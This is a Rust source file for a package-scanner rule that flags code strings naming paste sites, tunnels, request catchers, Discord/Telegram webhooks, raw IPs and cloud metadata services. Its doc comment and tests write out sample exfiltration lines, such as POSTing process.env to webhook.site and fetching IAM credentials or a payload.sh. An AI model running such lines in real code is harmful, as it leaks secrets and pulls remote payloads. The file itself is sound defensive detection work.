//! `suspicious-endpoint`: strings naming places malware talks to.

use crate::declare_rule;
use crate::detect::endpoints::{EndpointCategory, classify};
use crate::detect::paths::is_test_or_docs_path;
use crate::detect::string_excerpt;
use crate::rule::{FindingExt, Rule, RuleContext, RuleMeta};
use ferret_core::{Action, Capability, FileFacts, FileKind, Finding, PackageFacts, UseKind};

/// Findings per file; the first few make the point.
const MAX_PER_FILE: usize = 8;

declare_rule! {
    /// ## What it does
    /// Extracts URLs, `host:port` pairs and hosts from the strings of code files (literal
    /// or constant-folded: concatenations, base64/hex/char-code decodes, reversed strings)
    /// and reports those pointing at: raw public IP addresses, paste sites, URL shorteners,
    /// anonymous file shares, tunnels (ngrok, trycloudflare, serveo, localtunnel),
    /// request catchers (webhook.site, interactsh/OAST, Burp Collaborator, canarytokens,
    /// pipedream), messenger webhooks (Discord, Telegram bots, Slack, Feishu) and cloud
    /// metadata services (169.254.169.254, 100.100.100.200, metadata.google.internal).
    /// Hosts match by registrable name (`pastebin.*`, `*.ngrok.*`), so rotated TLDs match.
    ///
    /// ## Why is this a risk?
    /// These are the dead drops of supply-chain malware: stolen environment variables go to
    /// request catchers and Discord/Telegram webhooks, second stages come from paste sites
    /// and raw IPs, and dependency-confusion probes read cloud metadata credentials.
    ///
    /// ## Example
    /// ```js
    /// fetch("https://webhook.site/3f2a…", { method: "POST", body: JSON.stringify(process.env) });
    /// ```
    ///
    /// ## False positives
    /// Warned: request catchers, tunnels, cloud metadata, messenger webhooks that carry
    /// their token, raw paste URLs and raw-IP URLs. Only recorded: shorteners, file shares,
    /// paste pages, API prefixes (`https://api.telegram.org/bot`) of bot libraries, and
    /// anything under `test/`, `docs/` or `examples/`. Comments are never read (mongoose's
    /// shortener links live in comments and docs), nor are Python docstrings. Cloud metadata
    /// addresses warn only in install-time code or in a file that makes network calls when
    /// it loads: cloud SDKs (botocore, google-auth, azure-identity) and SSRF blocklists name
    /// them in library functions; a probe runs at install or on load (the stolen credentials
    /// sent on are the `exfiltration` rule's).
    ///
    /// ## References
    /// - GuardDog `threat-network-exfiltration`, `shady-links`
    SuspiciousEndpoint, id = "suspicious-endpoint", category = Malicious, severity = Medium, action = Warn,
}

impl Rule for SuspiciousEndpoint {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_file(&self, file: &FileFacts, _pkg: &PackageFacts, cx: &mut RuleContext) {
        if !file.is_code() {
            return;
        }
        let non_runtime = is_test_or_docs_path(&file.path);
        // Cloud SDKs and SSRF guards name the metadata service in library functions
        // (botocore's IMDS fetcher, google-auth, azure-identity, a blocklist of internal
        // addresses); a probe runs at install time or when the module loads.
        let runs_now = file.install_time
            || file.uses_of(Capability::Network).any(|u| {
                matches!(u.kind, UseKind::Call | UseKind::Construct)
                    && file.scope_at(u.location.span.start) == 0
                    && !(file.kind == FileKind::Python && is_python_client_class(&u.api))
            });
        let mut seen: Vec<(String, &'static str)> = Vec::new();
        for s in &file.strings {
            if s.len < 4 || !s.value.contains(['.', ':']) {
                continue;
            }
            for e in classify(&s.value) {
                let key = (e.host.clone(), e.category.as_str());
                if seen.contains(&key) {
                    continue;
                }
                if seen.len() >= MAX_PER_FILE {
                    return;
                }
                seen.push(key);
                let category = e.category.as_str().replace('-', " ");
                let mut finding =
                    Finding::of(&Self::META, format!("{category} endpoint `{}`", e.text))
                        .primary(&s.location, &string_excerpt(s), category.clone())
                        .evidence("url", e.text.clone())
                        .evidence("host", e.host.clone())
                        .evidence("category", e.category.as_str())
                        .install_time(file.install_time);
                if s.folded {
                    finding = finding.evidence("folded", true);
                }
                if !e.warns()
                    || non_runtime
                    || (e.category == EndpointCategory::CloudMetadata && !runs_now)
                {
                    finding.action = Action::Monitor;
                }
                cx.report(finding);
            }
        }
    }
}

/// A Python network API that is a class (`urllib3.PoolManager`, `requests.Session`,
/// `http.client.HTTPConnection`): instantiating a client sends nothing. sentry-sdk builds its
/// metadata client in a class body and requests from methods.
fn is_python_client_class(api: &str) -> bool {
    api.rsplit('.')
        .next()
        .and_then(|last| last.chars().next())
        .is_some_and(char::is_uppercase)
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;
    use ferret_core::Action;

    #[test]
    fn suspicious_endpoint() {
        let pass = [
            (
                "index.js",
                "// see https://bit.ly/abc and https://webhook.site/x\nmodule.exports = 'https://github.com/a/b';\n",
            ),
            (
                "a.js",
                "const v = '1.2.3.4'; const local = 'http://127.0.0.1:8080/';\n",
            ),
            ("README.md", "post to https://webhook.site/abc"),
        ];
        let fail = [
            (
                "index.js",
                "require('https').get('https://webhook.site/0b1c2d3e');\n",
            ),
            (
                "a.js",
                "fetch('http://198.51.100.7/download/payload.sh');\n",
            ),
            (
                "b.js",
                "const u = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';\n",
            ),
            (
                "c.js",
                "const h = 'https://discord.example/api/webhooks/123456789/abcdefghij';\n",
            ),
            (
                "d.js",
                "const p = 'https://pastebin.invalid/raw/AbCd1234';\n",
            ),
            ("e.js", "const t = 'x.ngrok.invalid';\n"),
        ];
        let t = Tester::new(super::SuspiciousEndpoint).pass(pass).fail(fail);
        t.test_and_snapshot();
        let short = t.findings([("index.js", "module.exports = 'https://bit.ly/3abc';\n")]);
        assert_eq!(short[0].action, Action::Monitor);
        let in_test = t.findings([("test/x.js", "fetch('https://webhook.site/abc');\n")]);
        assert_eq!(in_test[0].action, Action::Monitor);
        let warn = t.findings([("lib/x.js", "fetch('https://webhook.site/abc');\n")]);
        assert_eq!(warn[0].action, Action::Warn);
        // A cloud SDK's metadata client: the address in library functions, monitored.
        let sdk = t.findings([(
            "lib/imds.js",
            "const BASE = 'http://169.254.169.254/latest/';\nexports.token = () => fetch(BASE + 'api/token', { method: 'PUT' });\n",
        )]);
        assert_eq!(sdk[0].action, Action::Monitor);
        let py = Tester::new(super::SuspiciousEndpoint).ecosystem(ferret_core::Ecosystem::PyPI);
        let py_sdk = py.findings([(
            "botocore/utils.py",
            "import urllib.request\nMETADATA_BASE_URL = 'http://169.254.169.254/'\ndef fetch(path):\n    return urllib.request.urlopen(METADATA_BASE_URL + path).read()\n",
        )]);
        assert_eq!(py_sdk[0].action, Action::Monitor);
        // sentry-sdk: a client made in a class body, requests from methods.
        let sentry = py.findings([(
            "sentry_sdk/cloud.py",
            "import urllib3\nHOST = '169.254.169.254'\nclass C:\n    http = urllib3.PoolManager(timeout=1)\n    @classmethod\n    def probe(cls):\n        return cls.http.request('GET', 'http://' + HOST + '/latest/')\n",
        )]);
        assert_eq!(sentry[0].action, Action::Monitor);
        // Requested when the module is imported: warned.
        let py_probe = py.findings([(
            "d/__init__.py",
            "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/')\n",
        )]);
        assert_eq!(py_probe[0].action, Action::Warn);
        // Probed when the module loads: warned.
        let probe = t.findings([(
            "lib/index.js",
            "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');\n",
        )]);
        assert_eq!(probe[0].action, Action::Warn);
    }
}
